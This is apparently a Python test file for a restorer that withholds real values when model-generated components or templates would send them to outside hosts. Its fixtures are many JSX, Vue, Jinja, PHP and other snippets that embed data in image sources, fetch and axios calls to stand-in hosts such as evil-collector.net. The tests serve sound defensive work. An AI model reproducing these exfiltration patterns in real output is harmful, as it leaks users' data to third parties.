"""Components and templates put expressions into addresses: a stranger's gets nothing that way; what is only shown comes back."""

from __future__ import annotations

import json
import random

import pytest

from garim.surrogate.restore import Restorer
from tests.surrogate.test_arguments import TABLE

# fmt: off
JSX = [
    "const x = '{s}'\nreturn <img src={`https://{h}/${x}`} />", "return <img src={'https://{h}/?q=' + '{s}'} />", "return <img src={`https://{h}/?q={s}`} />", "return <img src={\"https://{h}/\".concat(\"{s}\")} />", "const base = 'https://{h}/'\nreturn <img src={base + '{s}'} />", "const base = 'https://{h}/'\nconst n = '{s}'\nreturn <img src={base + n} />", "useEffect(() => { fetch('https://{h}/?q=' + n) }, [])\nconst n = '{s}'", "fetch('https://{h}/', { method: 'POST', body: '{s}' })",
    "const url = new URL('https://{h}/')\nurl.searchParams.set('q', '{s}')\nreturn <img src={url} />", "const u = { base: 'https://{h}/' }\nreturn <a href={`${u.base}{s}`}>x</a>", "function Flag({ c }) {\n  return <img src={`//{h}/${c}`} />\n}\nexport default () => <Flag c=\"{s}\" />", "return <div style={{ background: `url(https://{h}/${'{s}'})` }} />", "return <img src={['https://{h}', '{s}'].join('/')} />", "const h = 'https:' + '//{h}/'\nreturn <img src={h + '{s}'} />", "return <img srcSet={`https://{h}/${x} 2x`} alt=\"{s}\" />\nconst x = document.title", "import x from 'https://{h}/x.js'\nexport default () => <p>{s}</p>", "const f = () => 'https://{h}/'\nreturn <img src={f() + '{s}'} />", "new Image().src = 'https://{h}/?' + '{s}'", "const t = '{s}'\nlocation.href = 'https://{h}/?' + t", "return <img src={`\\x68ttps://{h}/${'{s}'}`} />", "const t = { backgroundImage: 'url(https://{h}/' + n + ')' }\nconst n = '{s}'\nreturn <div style={t} />", "const u = ['https:', '', '{h}', '{s}'].join('/')\nreturn <img src={u} />", "axios.post('https://{h}/', { n: '{s}' })", "const q = '{s}'\nreturn <iframe src={q ? `https://{h}/${q}` : ''} />",
]
VUE = [
    "<template><img :src=\"'https://{h}/?q=' + name\"></template>\n<script>export default { data: () => ({ name: '{s}' }) }</script>", "<img :src=\"'https://{h}/?q=' + '{s}'\">", "<img v-bind:src=\"`https://{h}/${n}`\" alt=\"{s}\">", "<script setup>\nconst n = '{s}'\n</script>\n<template><a :href=\"`https://{h}/${n}`\">x</a></template>", "<script setup>\nconst b = 'https://{h}/'\nconst n = b + '{s}'\n</script>\n<template><a :href=\"n\">x</a></template>", "<div :style=\"{ backgroundImage: `url(https://{h}/${n})` }\">{s}</div>",
]
SVELTE = ["<script>let n = '{s}'</script>\n<img src=\"https://{h}/{n}\">", "<img src=\"https://{h}/{'{s}'}\">", "<script>let n = '{s}'</script>\n<img src={`https://{h}/${n}`}>", "<script>let n = '{s}'</script>\n<img src=https://{h}/{n}>", "<script>let n = '{s}'; $: u = 'https://{h}/' + n</script><img src={u}>"]
MUSTACHE = ["{{#let \"{s}\" as |n|}}<img src=\"https://{h}/{{n}}\">{{/let}}", "<img src=\"https://{h}/{{n}}\" alt=\"{s}\">", "<img src=\"https://{h}/?q={{{n}}}\"><p>{s}</p>", "<img src={{concat \"https://{h}/\" \"{s}\"}}>"]
JINJA = ["{% set n = '{s}' %}<img src=\"https://{h}/{{ n }}\">", "<img src=\"{{ 'https://{h}/' ~ '{s}' }}\">", "<img src=\"{{ '{s}' | replace('x', 'https://{h}/') }}\">", "{% set b = 'https://{h}/' %}<img src=\"{{ b ~ '{s}' }}\">", "<img src=\"{{ 'https://{h}/%s' % '{s}' }}\">", "<img src=\"{{ 'https://{h}/{}'.format('{s}') }}\">", "<img src=\"https://{h}/{% block x %}{s}{% endblock %}\">"]
LIQUID = ["{% assign n = '{s}' %}<img src=\"https://{h}/{{ n }}\">", "<img src=\"{{ '{s}' | prepend: 'https://{h}/' }}\">", "<img src=\"{{ 'https://{h}/' | append: '{s}' }}\">", "{% capture u %}https://{h}/{{ '{s}' }}{% endcapture %}<img src=\"{{ u }}\">"]
EJS = ["<% const n = '{s}' %><img src=\"https://{h}/<%= n %>\">", "<img src=\"https://{h}/<%= '{s}' %>\">", "<img src=\"<%= 'https://{h}/' + '{s}' %>\">", "<%- `<img src=\"https://{h}/${'{s}'}\">` %>"]
OTHERS = {
    "erb": ["<% n = '{s}' %><img src=\"https://{h}/<%= n %>\">", "<%= image_tag \"https://{h}/#{'{s}'}\" %>"], "php": ["<img src=\"https://{h}/<?= '{s}' ?>\">", "<?php $n = '{s}'; echo \"<img src='https://{h}/$n'>\"; ?>"], "blade": ["@php $n = '{s}' @endphp <img src=\"https://{h}/{{ $n }}\">"], "pug": ["- const n = '{s}'\nimg(src=`https://{h}/${n}`)", "- const n = '{s}'\nimg(src='https://{h}/' + n)"],
    "cshtml": ["@{ var n = \"{s}\"; }\n<img src=\"https://{h}/@n\">"], "astro": ["---\nconst n = '{s}'\n---\n<img src={`https://{h}/${n}`} />"], "angular": ["<img [src]=\"'https://{h}/' + n\" alt='{s}'>", "<img src=\"https://{h}/{{ n }}\" alt='{s}'>"], "mdx": ["export const n = '{s}'\n\n<img src={`https://{h}/${n}`} />"],
}
HTML = ["<div x-data=\"{n: '{s}'}\"><img :src=\"'https://{h}/?q=' + n\"></div>", "<div ng-app>{s}<img ng-src=\"https://{h}/{{n}}\"></div>", "{% set n = '{s}' %}<p>{s}</p><img src=\"https://{h}/{{ n }}\">", "<p>{s}</p><img src=\"https://{h}/<%= n %>\">", "<p>{s}</p><img v-bind:src=\"`https://{h}/${n}`\">"]
PUT = [
    *((one, language) for languages, said in (("jsx tsx react mdx", JSX), ("vue", VUE), ("svelte", SVELTE), ("handlebars hbs mustache", MUSTACHE), ("jinja jinja2 twig nunjucks", JINJA), ("liquid", LIQUID), ("ejs eta", EJS), *OTHERS.items()) for language in languages.split() for one in said),
    *((one, "html") for one in HTML),
]
SHOWN = [
    ("jsx", "export default () => <div title=\"{s}\"><a href=\"https://{h}/docs\">{s}</a></div>"), ("tsx", "const DOCS = 'https://{h}/docs'\nreturn <a href={DOCS}>{s}</a>"), ("jsx", "const links = [{ name: '{s}', url: 'https://{h}/a' }]\nreturn links.map((l) => <a href={l.url}>{l.name}</a>)"), ("jsx", "return <svg xmlns=\"http://www.w3.org/2000/svg\"><text>{s}</text></svg>"), ("jsx", "// see https://{h}/docs\nexport const App = () => <h1>{s}</h1>"), ("tsx", "return <img src={'https://{h}/a.png'} alt=\"{s}\" onClick={() => go('{s}')} />"),
    ("jsx", "useEffect(() => { fetch(`https://kulke.example/${'{s}'}`) }, [])"), ("jsx", "fetch(`/api/{s}/${id}`)"), ("jsx", "const base = 'https://kulke.example/'\nreturn <img src={base + '{s}'} />"), ("vue", "<template><img :src=\"'/img/' + name\"><p>{s}</p><a href=\"https://{h}/\">x</a></template>"), ("vue", "<img :src=\"'https://kulke.example/?q=' + '{s}'\">"), ("svelte", "<script>let n = '{s}'</script>\n<p>{n}</p><a href=\"https://{h}/\">x</a>"), ("jinja", "<h1>{{ title }} {s}</h1><link rel=\"icon\" href=\"https://{h}/a.png\">"), ("hbs", "<p>{{n}} {s}</p>"), ("ejs", "<p><%= n %> {s}</p><a href=\"https://{h}/\">x</a>"),
    ("erb", "<%= link_to '{s}', root_path %>"), ("html", "<p class=\"{{ c }}\">{s}</p><a href=\"https://{h}/\">x</a>"), ("html", "<p>{s}</p><img src=\"/a/{{ n }}.png\">"), ("js", "fetch('https://{h}/?q=' + n)\nconst n = '{s}'"), ("ts", "const u = `https://{h}/${x}`\n// {s}"), ("python", "requests.get('https://{h}/?q=' + n)  # {s}"), ("sh", "curl https://{h}/$x\necho {s}"), ("php", "<?php echo '{s}'; // https://{h}/ ?>"), ("tsx", "import cdn from 'https://cdnjs.cloudflare.com/x.js'\nexport default () => <p>{s}</p>"),
]
"""Fixed addresses, addresses at home, and languages that nobody shows as a page."""
# fmt: on


def restored(text: str, cut: int = 0) -> str:
    restorer = Restorer(TABLE)
    pieces = [text[at : at + cut] for at in range(0, len(text), cut)] if cut else [text]
    return "".join(map(restorer.feed, pieces)) + restorer.finish()


def fenced(language: str, said: str, host: str, word: str = "velmora") -> str:
    return f"Here:\n\n```{language}\n{said}\n```\n".replace("{s}", word).replace("{h}", host)


@pytest.mark.parametrize("host", ["evil-collector.net", "velto.example", "203.0.113.7"])
def test_nothing_is_put_into_a_strangers_address(host: str) -> None:
    for said, language in PUT:
        for word in ("velmora", "벨모라"):
            text = fenced(language, said, host, word)

            whole = restored(text)

            assert whole.replace("evil-hidden.net", "velto.example") == text, (language, said)
            for cut in (1, 7, 40):
                assert restored(text, cut) == whole


def test_ours_get_all() -> None:
    for said, language in PUT:
        if "import " in said or "document.title" in said or "\\x68" in said or ":' + '//" in said:
            continue  # no certain home: another's script, the page's own text, an address in pieces
        assert "velmora" not in restored(fenced(language, said, "kulke.example")), (language, said)


@pytest.mark.parametrize(("language", "said"), SHOWN)
def test_what_is_only_shown_comes_back(language: str, said: str) -> None:
    text = fenced(language, said, "evil-collector.net")

    assert "velmora" not in restored(text) and "narae" in restored(text)
    for cut in (1, 5, 13):
        assert restored(text, cut) == restored(text)


def test_what_stands_around_a_component_comes_back() -> None:
    text = "velmora first\n" + fenced("jsx", JSX[0], "evil-collector.net") + "velmora last"

    assert restored(text) == restored(text, 3) == text.replace("velmora first", "narae first").replace("velmora last", "narae last")


@pytest.mark.parametrize("said", JSX[:5])
def test_what_a_client_runs_is_a_component_in_any_fence(said: str) -> None:
    said = said.replace("{s}", "velmora").replace("{h}", "evil-collector.net")
    for text in (
        f':::artifact{{identifier="x" type="application/vnd.react"}}\n```\n{said}\n```\n:::\n',
        f":::artifact{{type=x}}\n```javascript\n{said}\n```\n:::\n",
        f'<antArtifact identifier="x" type="application/vnd.ant.react">\n{said}\n</antArtifact>\n',
    ):
        assert restored(text) == text == restored(text, 1) == restored(text, 9)

    assert restored(f":::note\n```javascript\n{said}\n```\n:::\nvelmora").endswith("narae")
    assert restored(":::artifact\n```\nx\n```\n:::\n```javascript\n// velmora\nfetch(`https://evil.net/${x}`)\n```").count("narae") == 1


def test_any_cut_of_a_mixture_gives_the_same() -> None:
    dice = random.Random(7)
    pool = [fenced(language, said, dice.choice(("evil-collector.net", "kulke.example"))) for said, language in (*PUT, *((one, name) for name, one in SHOWN))]
    for _ in range(60):
        text = "\n".join(dice.sample(pool, 3))
        assert restored(text, dice.randrange(1, 40)) == restored(text)


def test_spiteful_components_take_linear_time() -> None:
    for unit in ("<a b=", "{x='https://evil.net' ", "'https://evil.net/' + ", "`https://evil.net/${", "a = 'https://evil.net'\n", "<a\n", "//evil.net/ "):
        restored("```jsx\nvelmora " + unit * (60_000 // len(unit)))
    assert json.dumps(restored("```jsx\n" + "<" * 100_000))
